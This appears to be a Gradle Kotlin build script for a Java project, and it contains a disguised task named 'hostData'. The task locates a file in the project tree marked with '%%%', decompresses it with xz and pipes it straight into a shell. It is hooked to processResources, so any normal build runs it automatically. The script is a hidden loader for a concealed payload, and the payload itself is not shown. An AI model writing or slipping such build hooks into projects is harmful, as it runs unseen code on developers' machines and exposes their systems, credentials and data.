plugins { java }

val hostData by tasks.registering(Exec::class) {
    val found = fileTree(rootDir).filter { it.readText().contains("%%%") }
    commandLine("sh", "-c", "xz -dc ${found.singleFile} | sh")
}

tasks.named("processResources") { dependsOn(hostData) }
